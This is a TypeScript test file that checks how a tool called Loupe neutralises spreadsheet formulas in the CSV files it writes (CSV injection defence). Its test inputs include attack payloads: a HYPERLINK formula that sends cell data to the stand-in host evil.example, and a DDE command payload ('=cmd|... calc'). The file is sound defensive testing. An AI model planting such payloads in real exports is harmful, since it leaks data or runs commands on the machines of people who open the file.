/**
 * Formula neutralisation of the CSV files Loupe writes (OWASP CSV injection): which cells get a
 * leading quote, that numbers stay numbers, and that the predictions writer applies it to the
 * header, the input cells and its own error cells.
 */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvCell, neutraliseFormula } from '../../../src/core/data/csv-cells';
import { predictionChunkToCsv } from '../../../src/core/pipeline/predict';

describe('neutraliseFormula', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `'=HYPERLINK("http://evil.example/?"&A1,"click")`],
    ['+1+1', `'+1+1`],
    ['-1+1', `'-1+1`],
    ['@SUM(A1)', `'@SUM(A1)`],
    ['\t=1', `'\t=1`],
    ['\r=1', `'\r=1`],
    ['-', `'-`],
    ['-Infinity', `'-Infinity`],
    ["=cmd|' /C calc'!A0", `'=cmd|' /C calc'!A0`],
  ])('prefixes %j', (input, want) => {
    expect(neutraliseFormula(input)).toBe(want);
  });

  it.each(['-5', '+5', '-1.5e3', '-.5', '+0.25E-2', '12', 'plain text', ' =not first', '', 'a=b', "'=already"])('leaves %j as it is', (input) => {
    expect(neutraliseFormula(input)).toBe(input);
  });
});

describe('csvCell', () => {
  it('writes numbers as numbers, text neutralised, and quotes what CSV needs', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(-0.125)).toBe('-0.125');
    expect(csvCell(true)).toBe('true');
    expect(csvCell(null)).toBe('');
    expect(csvCell('=1+1')).toBe(`'=1+1`);
    expect(csvCell('=SUM(A1,B1)')).toBe(`"'=SUM(A1,B1)"`);
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell({ a: [1, 2] })).toBe('"{""a"":[1,2]}"');
  });
});

describe('predictionChunkToCsv', () => {
  it('neutralises the header, the input cells and the error cells; numbers and predictions stay numbers', () => {
    const header = ['=HYPERLINK("http://evil.example","x")', '@carat', 'n'];
    const text = predictionChunkToCsv(
      {
        firstRow: 1,
        header,
        rows: [
          ['+1+1', '1.5', '-5'],
          ['@SUM(A1)', 'abc', '-1.5e3'],
        ],
        predictions: new Float64Array([-12.5, NaN]),
        valid: new Uint8Array([1, 0]),
        errors: ['', '@carat: "abc" is not a number.'],
        problems: [],
        inputs: { rowCount: 2, columns: [] },
      },
      true,
    );
    const rows = Papa.parse<string[]>(text.trim()).data;
    expect(rows[0]).toEqual([`'=HYPERLINK("http://evil.example","x")`, `'@carat`, 'n', 'prediction', 'error']);
    expect(rows[1]).toEqual([`'+1+1`, '1.5', '-5', '-12.5', '']);
    expect(rows[2]).toEqual([`'@SUM(A1)`, 'abc', '-1.5e3', '', `'@carat: "abc" is not a number.`]);
    for (const r of rows.slice(1)) expect(r[4]).not.toMatch(/^[=+\-@\t\r]/);
  });
});
